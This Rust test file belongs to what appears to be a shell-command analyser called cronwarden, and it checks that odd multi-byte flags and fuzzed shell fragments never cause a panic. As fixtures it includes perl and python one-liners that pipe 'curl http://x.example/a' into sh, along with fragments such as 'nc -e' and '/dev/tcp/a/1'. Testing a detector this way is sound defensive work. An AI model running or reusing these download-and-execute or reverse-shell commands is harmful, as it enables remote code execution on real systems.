/// Multi-byte characters in a cluster are now stepped over like any other
/// flag, and the inline code after them is still read.
#[test]
fn multibyte_flag_clusters_are_read_not_a_panic() {
    for interp in ["python3", "perl", "ruby", "lua"] {
        for flag in ["-é", "-\u{1f}--\u{fffd}\u{fffd}", "-ü-", "-€c"] {
            let line = format!("{interp} {flag} x");
            let _ = categories(&line);
            let argv = vec![interp.to_owned(), flag.to_owned(), "x".to_owned()];
            let _ = cronwarden::engine::analysis::analyze_argv(&argv, &Vec::new(), &[]);
        }
    }
    for line in [
        "perl -ée 'system(\"curl http://x.example/a | sh\")'",
        "python3 -éc 'import os; os.system(\"curl http://x.example/a | sh\")'",
    ] {
        assert!(
            categories(line).contains(&DownloadExecute),
            "{line:?}: {:?}",
            categories(line)
        );
    }
}

// The fuzz target in fuzz/ runs with cargo-fuzz on nightly; these
// properties run the same entry point on every `make test`.
use proptest::prelude::*;

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1000))]

    #[test]
    fn arbitrary_text_never_panics(s in "\\PC{0,300}") {
        let _ = analyze_line(&s);
    }

    #[test]
    fn shell_shaped_text_never_panics(parts in prop::collection::vec(prop::sample::select(vec![
        "curl x", "|", "sh", "$(", ")", "`", "'", "\"", "<(", ">", ">&", "&&", ";", "\\", "<<EOF\n",
        "\nEOF\n", "eval ", "base64 -d", "x", " ", "\n", "${", "}", "/dev/tcp/a/1", "python -c ",
        "nc -e ", "<<<", "2>&1", "exec 3<>", "<&3", "xargs -I{} ", "sh -c ", "$'\\x63'", "{", "(", "=",
    ]), 0..60)) {
        let s = parts.concat();
        let _ = analyze_line(&s);
    }
}
